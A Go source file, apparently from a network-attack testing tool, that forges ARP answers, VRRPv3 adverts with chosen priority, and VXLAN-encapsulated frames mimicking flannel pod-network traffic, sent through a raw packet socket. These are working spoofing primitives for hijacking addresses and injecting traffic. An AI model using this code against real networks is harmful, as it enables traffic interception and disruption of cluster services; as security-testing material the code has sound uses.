package attack

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"

	"golang.org/x/sys/unix"
)

// Numbers of the protocols in use: IEEE 802.3, RFC 826, RFC 9568, RFC 7348.
const (
	etherIPv4, etherARP = 0x0800, 0x0806
	protocolUDP         = 17
	protocolVRRP        = 112
	vxlanPort           = 8472
	vxlanFlag           = 0x08
	flannelVNI          = 1
)

// broadcast is the address of everybody on a segment.
var broadcast = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

func ethernet(to, from net.HardwareAddr, kind uint16, payload []byte) []byte {
	out := append(append([]byte{}, to...), from...)
	return append(binary.BigEndian.AppendUint16(out, kind), payload...)
}

// ipv4 returns a packet that has passed no router.
func ipv4(from, to netip.Addr, protocol byte, payload []byte) []byte {
	b := []byte{0x45, 0, 0, 0, 0, 0, 0x40, 0, 255, protocol, 0, 0}
	binary.BigEndian.PutUint16(b[2:], uint16(20+len(payload)))
	b = append(append(b, from.AsSlice()...), to.AsSlice()...)
	binary.BigEndian.PutUint16(b[10:], checksum(b))
	return append(b, payload...)
}

// advert returns a VRRPv3 advert about an address.
func advert(from, to, vip netip.Addr, id, priority byte) []byte {
	b := append([]byte{3<<4 | 1, id, priority, 1, 0, 20, 0, 0}, vip.AsSlice()...)
	pseudo := append(from.AsSlice(), to.AsSlice()...)
	pseudo = append(pseudo, 0, protocolVRRP, 0, byte(len(b)))
	binary.BigEndian.PutUint16(b[6:], checksum(append(pseudo, b...)))
	return ipv4(from, to, protocolVRRP, b)
}

// claim returns an ARP answer that tells a receiver that an address is at a
// hardware address.
func claim(what netip.Addr, at net.HardwareAddr, to Place) []byte {
	target, err := net.ParseMAC(to.MAC)
	if err != nil {
		target = broadcast
	}
	b := []byte{0, 1, 8, 0, 6, 4, 0, 2} // Ethernet, IPv4, an ARP answer
	b = append(append(b, at...), what.AsSlice()...)
	b = append(append(b, target...), to.Address.AsSlice()...)
	return ethernet(target, at, etherARP, b)
}

// tunnelled returns a packet as one host of the pod network sends it to
// another, with any packet inside.
func tunnelled(to, from net.HardwareAddr, packet []byte) []byte {
	head := []byte{vxlanFlag, 0, 0, 0, 0, 0, flannelVNI, 0}
	return append(head, ethernet(to, from, etherIPv4, packet)...)
}

// udp returns a datagram without a checksum.
func udp(port uint16, text string) []byte {
	b := binary.BigEndian.AppendUint16([]byte{0x30, 0x39}, port)
	b = binary.BigEndian.AppendUint16(b, uint16(8+len(text)))
	return append(append(b, 0, 0), text...)
}

// checksum returns the checksum of the internet protocols, over an even length.
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

// sender puts frames on a segment.
type sender struct {
	fd  int
	nic *net.Interface
}

func open(nic string) (*sender, error) {
	link, err := net.InterfaceByName(nic)
	if err != nil {
		return nil, fmt.Errorf("interface %s: %w", nic, err)
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return nil, fmt.Errorf("send frames on %s: %w", nic, err)
	}
	return &sender{fd, link}, nil
}

func (s *sender) send(frame []byte) error {
	return unix.Sendto(s.fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: s.nic.Index, Halen: 6, Addr: [8]byte(append(append([]byte{}, frame[:6]...), 0, 0))})
}

func (s *sender) close() { _ = unix.Close(s.fd) }
